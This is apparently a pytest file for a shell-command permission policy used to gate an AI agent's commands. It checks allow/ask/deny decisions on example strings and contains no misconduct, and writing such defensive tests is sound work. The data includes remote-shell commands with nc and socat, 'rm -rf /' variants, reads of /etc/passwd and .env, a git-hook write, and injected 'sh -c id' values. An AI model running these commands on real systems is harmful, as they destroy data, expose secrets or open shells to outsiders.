"""Every program record's example commands get the decision the record states (default mode).

The examples are data handed to ``policy.evaluate``; nothing here runs a shell.  The records
are the one statement of the options each program may run with (``policy/shell/programs/``).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from cairn.policy import evaluate
from cairn.policy.shell.programs import Program, record, records
from cairn.policy.shell.safeflags import SPECS, value_options

RECORDS = records()
EXAMPLES = [
    (r.name, decision, command)
    for r in RECORDS
    for decision, commands in r.examples.items()
    for command in commands
]


@pytest.fixture
def project(ws: Path) -> Path:
    (ws / "README.md").write_text('{"name": "x", "version": "1"}\n')
    return ws


@pytest.mark.parametrize(("name", "decision", "command"), EXAMPLES, ids=[f"{n}:{c}" for n, _, c in EXAMPLES])
def test_record_example(project: Path, name: str, decision: str, command: str) -> None:
    verdict = evaluate("bash", {"command": command}, workspace=project)
    assert str(verdict.decision) == decision, f"{name}: {command!r} -> {verdict.decision} ({verdict.reason})"


def test_every_record_has_an_example_that_asks_or_is_refused() -> None:
    missing = [r.name for r in RECORDS if not (r.ask or r.deny)]
    assert not missing, missing


def test_the_read_api_has_the_shape_the_cli_reads() -> None:
    cat = record("cat")
    assert isinstance(cat, Program)
    assert cat.category == "reader" and cat.operands == "read"
    assert "-n" in [o.text for o in cat.options]
    assert cat.examples["allow"] and set(cat.examples) == {"allow", "ask", "deny"}
    assert record("git") is not None and record("git").category == "vcs"  # type: ignore[union-attr]
    assert record("no-such-program") is None
    assert [r.name for r in RECORDS] == sorted(r.name for r in RECORDS)


def test_option_arity_is_stated_once_per_program() -> None:
    """A letter is either a flag or takes a value, and a long name is one or the other."""
    for r in RECORDS:
        assert not set(r.flags) & set(r.valued), r.name
        assert not set(r.asks_valued) & set(r.flags + r.valued), r.name
        assert not r.long & r.long_valued, r.name
        assert not r.asks_long_valued & (r.long | r.long_valued), r.name
        assert not r.asks_long & (r.long | r.long_valued | r.asks_long_valued), r.name
        assert len(r.flags) == len(set(r.flags)) and len(r.valued) == len(set(r.valued)), r.name


def test_the_classifier_tables_are_derived_from_the_records() -> None:
    for r in RECORDS:
        if r.options_by_handler:
            assert r.name not in SPECS and (r.handler or r.rules), r.name
            continue
        assert SPECS[r.name] is r  # the allow list is the record itself
        short, long = value_options(r.name)
        assert short == r.valued + r.asks_valued
        assert long == {"--" + n for n in r.long_valued | r.asks_long_valued}


@pytest.mark.parametrize(
    "command",
    ["bat -p /etc/passwd", "column -t /etc/passwd", "ls --color ..", "diff --color /etc/passwd x"],
)
def test_a_flag_never_swallows_the_path_after_it(project: Path, command: str) -> None:
    """The drift the one table removes: these were allowed while the same command without the
    flag asked, because a second table said the flag took a value."""
    verdict = evaluate("bash", {"command": command}, workspace=project)
    assert str(verdict.decision) == "ask", verdict.reason
    assert "outside the workspace" in verdict.reason


ENV_CASES = [(r.name, var, r.allow[0]) for r in RECORDS if r.allow for var in r.env if "*" not in var]


@pytest.mark.parametrize(("name", "var", "base"), ENV_CASES, ids=[f"{n}:{v}" for n, v, _ in ENV_CASES])
def test_a_variable_the_record_names_asks_before_the_command(
    project: Path, name: str, var: str, base: str
) -> None:
    """The variables a record lists change what the program runs or loads: set before it, they ask."""
    verdict = evaluate("bash", {"command": f"{var}=./x.sh {base}"}, workspace=project)
    assert str(verdict.decision) == "ask", f"{var}=./x.sh {base}: {verdict.reason}"


def test_every_rule_is_spelled_with_known_words() -> None:
    """A misspelt test or effect would silently never apply: each is one the judge knows."""
    from cairn.policy.shell.judge import _RISK, EFFECTS, TESTS

    for r in RECORDS:
        for rule in r.rules:
            parts = [p.lstrip("!") for t in rule.when.split() for p in t.split("&")]
            tests = [t for t in parts if not t.startswith(("-", "is:", "^", "~", "sub:")) and t[-1:] != "="]
            assert set(tests) <= TESTS or tests == ["="], (r.name, rule)
            effects = {e.partition("=")[0] + ("=" if "=" in e else "") for e in rule.effect.split()}
            assert effects <= EFFECTS and rule.risk in _RISK, (r.name, rule)
            assert rule.when.split() and rule.says, (r.name, rule)


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("set -euo pipefail", "allow"),
        ("set -o vi", "ask"),
        ("alias ls-x='rm -rf'", "ask"),  # any word with = defines an alias
        ("compgen -AW '$(id)' x", "ask"),  # -A takes no value here: -W is seen
        ("readarray -tC cb v", "ask"),
        ("hash -rp /bin/sh ls", "ask"),
        ("exec 2>&1", "allow"),
        ("exec rm -r src", "ask"),
        ("source ./env.sh", "ask"),
        ("less +!id README.md", "ask"),
        ("man ./x.1", "ask"),
        ("date -us now", "ask"),
        ("gzip -c README.md", "ask"),  # gzip has no option list: any option asks
        ("gzip < README.md", "allow"),
        ("unzip -l src.zip", "allow"),
        ("zip -TT 'sh -c id' out.zip README.md", "ask"),
        ("trap 'rm -rf /' EXIT", "deny"),  # the trap's code is judged as commands
        ("eval rm -rf /", "deny"),
    ],
)
def test_record_rules_decide(project: Path, command: str, decision: str) -> None:
    """Builtins and small tools judged by their records' rules (no handler)."""
    verdict = evaluate("bash", {"command": command}, workspace=project)
    assert str(verdict.decision) == decision, f"{command!r} -> {verdict.decision} ({verdict.reason})"


def test_the_generic_judge_reads_the_record() -> None:
    """Programs without a handler are judged from their record's data alone."""
    from cairn.policy.shell.judge import judge, judged

    sort, uniq, grep, tr = (record(n) for n in ("sort", "uniq", "grep", "tr"))
    assert sort and uniq and grep and tr and all(judged(r) for r in (sort, uniq, grep, tr))
    assert not judged(record("sed")) and not judged(None)
    out = judge(sort, ["-o", "out.txt", "-k", "2", "in.txt"])
    assert (out.category, out.writes, out.reads) == ("write", ["out.txt"], ["in.txt"])
    assert judge(sort, ["--compress-program=sh", "x"]).category == "exec"
    assert judge(uniq, ["a", "b"]).writes == ["b"]
    assert judge(grep, ["-r", "TODO"]).reads == ["."]
    assert judge(grep, ["-e", "x", "a", "-f", "pats"]).reads == ["a", "pats"]
    assert judge(tr, ["a-z", "A-Z"]).reads == [] and judge(tr, ["a", "b"]).decoder


@pytest.mark.parametrize("command", ["uudecode x.uu", "ack TODO src"])
def test_programs_without_a_record_ask(project: Path, command: str) -> None:
    """uudecode writes the file its input names; ack loads a project .ackrc (--pager runs code)."""
    assert str(evaluate("bash", {"command": command}, workspace=project).decision) == "ask"


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("rm -r --interactive /", "deny"),  # --interactive[=WHEN] does not take the next word
        ("rm --interactive -r ~", "deny"),
        ("shred -x /etc/hosts", "deny"),  # -x is --exact, not a value-taking option
        ("tee --output-error /etc/hosts", "deny"),
        ("mkdir --context /etc/x", "deny"),
    ],
)
def test_writer_records_state_arity_as_getopt_parses_it(project: Path, command: str, decision: str) -> None:
    assert str(evaluate("bash", {"command": command}, workspace=project).decision) == decision


def test_git_subcommands_are_data() -> None:
    """What a git subcommand does and its option list are stated once, in programs/git.py."""
    from cairn.policy.shell.programs.git import subcommand

    status, show, push = subcommand("status"), subcommand("show"), subcommand("push")
    assert status and status.kind == "read" and status.short == ("sbuvzM", "")
    assert show and show.like == "log" and show.short == subcommand("log").short  # type: ignore[union-attr]
    assert push and push.kind == "network" and "--receive-pack" in push.runs
    assert subcommand("no-such-alias") is None


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("git blame --contents=/etc/passwd README.md", "ask"),
        ("git blame --contents=README.md README.md", "ask"),
    ],
)
def test_git_blame_contents_is_judged_not_a_crash(project: Path, command: str, decision: str) -> None:
    verdict = evaluate("bash", {"command": command}, workspace=project)
    assert str(verdict.decision) == decision and "could not evaluate" not in verdict.reason


@pytest.mark.parametrize(("name", "judged_by"), [("kill", "rules"), ("socat", "rules"), ("sed", "handler")])
def test_the_surface_says_who_judges_a_record_without_options(name: str, judged_by: str) -> None:
    """Rule-judged records (no handler) are described as judged by their rules, not a handler."""
    from cairn.policy.surface import programs

    (surface,) = programs(name)
    assert surface.judged_by == judged_by
    assert ("handler" in surface.reads) == (judged_by == "handler")


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("jq --args '$ENV' a", "ask"),  # the first word after --args is still the program
        ("yq -o json 'strenv(HOME)' README.md", "ask"),  # -o takes a value: the program is next
        ("nc --sh-exec=sh host 80", "deny"),
        ("nc -lvpe sh 80", "deny"),
        ("kill -s KILL -1", "deny"),
        ("socat TCP4:host:1 EXEC:/bin/sh", "deny"),
        ("dd if=README.md of=.git/config", "deny"),
        ("history -w ~/.bashrc", "deny"),
        ("watch -n 1 'cat .env'", "ask"),
        ("flock -c 'rm -rf /' .lock", "deny"),
    ],
)
def test_programs_moved_from_handlers_to_records_keep_their_verdicts(
    project: Path, command: str, decision: str
) -> None:
    verdict = evaluate("bash", {"command": command}, workspace=project)
    assert str(verdict.decision) == decision, (command, verdict.reason)


@pytest.mark.parametrize(
    ("command", "decision", "mode"),
    [
        # operands="copy": sources read, the destination (last operand or -t DIR) written
        ("cp README.md src/x", "allow", "accept-edits"),
        ("cp -t .git README.md", "deny", "default"),
        ("cp -l .git/config x", "deny", "default"),  # a hard link writes its source too
        ("mv .git/config x", "deny", "default"),  # mv writes (removes) its sources
        ("ln -s /x/.git", "deny", "default"),  # ln -s DIR/NAME creates ./NAME
        # critical_with / destructive: what -r (or --basetemp's value) makes critical
        ("rm -r ~", "deny", "bypass"),
        ("rm /", "deny", "bypass"),  # a destructive record keeps the roots critical
        ("chmod -R 777 src", "ask", "default"),
        ("rsync -a --delete src/ .", "deny", "bypass"),
        ("pytest --base=.git", "deny", "default"),  # argparse abbreviation of --basetemp
        # remote copies: sending reads, fetching writes network data
        ("scp host:x ~/.bashrc", "deny", "default"),
        ("rsync -e 'sh -c id' src/ dst/", "ask", "accept-edits"),
        # tar: the mode decides what -f is; host:file runs rsh
        ("tar -tf src.tar", "allow", "default"),
        ("tar xf src.tar -C /", "deny", "default"),  # old-style letters are options
        ("tar -cf .git/x src", "deny", "default"),
        ("tar -tf host:x", "ask", "default"),
        # fd -x: the command runs on each match
        ("fd -e py -x rm {}", "ask", "default"),
        ("fd -e py -x wc -l {}", "allow", "default"),
        # xargs: the command gets operands from input; an unknown long option asks
        ("echo README.md | xargs -I F wc -l F", "allow", "default"),
        ("echo x | xargs --frob echo", "ask", "default"),
        # project tools: subcommands and escalating options
        ("go build -o .git/hooks/pre-commit", "deny", "default"),
        ("npm install left-pad", "ask", "accept-edits"),
    ],
)
def test_the_record_language_features(project: Path, command: str, decision: str, mode: str) -> None:
    """Each feature the folded handlers needed, shown on the program that needs it."""
    (project / "src").mkdir(exist_ok=True)
    verdict = evaluate("bash", {"command": command}, workspace=project, mode=mode)
    assert str(verdict.decision) == decision, f"{command!r} ({mode}) -> {verdict.decision} ({verdict.reason})"


def test_build_records_escalate_past_a_prefix_rule(project: Path) -> None:
    """Options that write or load paths are more than bash(go test:*) approves."""
    from cairn.policy import Rules

    rules = Rules(allow=["bash(go test:*)", "bash(pytest:*)"])
    for command, decision in [
        ("go test ./...", "allow"),
        ("go test -coverprofile=/tmp/c.out ./...", "ask"),
        ("go test --exec=./x.sh ./...", "ask"),  # go takes --flag as -flag
        ("pytest -q", "allow"),
        ("pytest -p no:cacheprovider", "allow"),
        ("pytest -p evil_plugin", "ask"),
        ("pytest -o cache_dir=/tmp/x", "ask"),
        ("pytest --junit=x.xml", "ask"),  # may stand for --junitxml or --junit-xml
    ]:
        verdict = evaluate("bash", {"command": command}, workspace=project, rules=rules)
        assert str(verdict.decision) == decision, f"{command!r} -> {verdict.decision} ({verdict.reason})"


def test_the_judge_reads_copy_and_remote_operands() -> None:
    from cairn.policy.shell.judge import judge

    cp, rsync, tar = (record(n) for n in ("cp", "rsync", "tar"))
    assert cp and rsync and tar
    out = judge(cp, ["-t", "dst", "a", "b"])
    assert (out.reads, out.writes, out.auto_edit) == (["a", "b"], ["dst"], True)
    send = judge(rsync, ["-a", "src/", "host:dst/"])
    assert (send.category, send.reads, send.writes, send.network) == ("network", ["src/"], [], True)
    fetch = judge(rsync, ["host:x", "here/"])
    assert (fetch.writes, fetch.download_files) == (["here/"], ["here/"])
    assert judge(rsync, ["--delete", "a/", "b/"]).critical == [
        ("a/", "rsync --delete"),
        ("b/", "rsync --delete"),
    ]
    assert judge(tar, ["czf", "out.tgz", "src"]).writes == ["out.tgz"]
    assert judge(tar, ["-xf", "a.tar"]).writes == ["."]
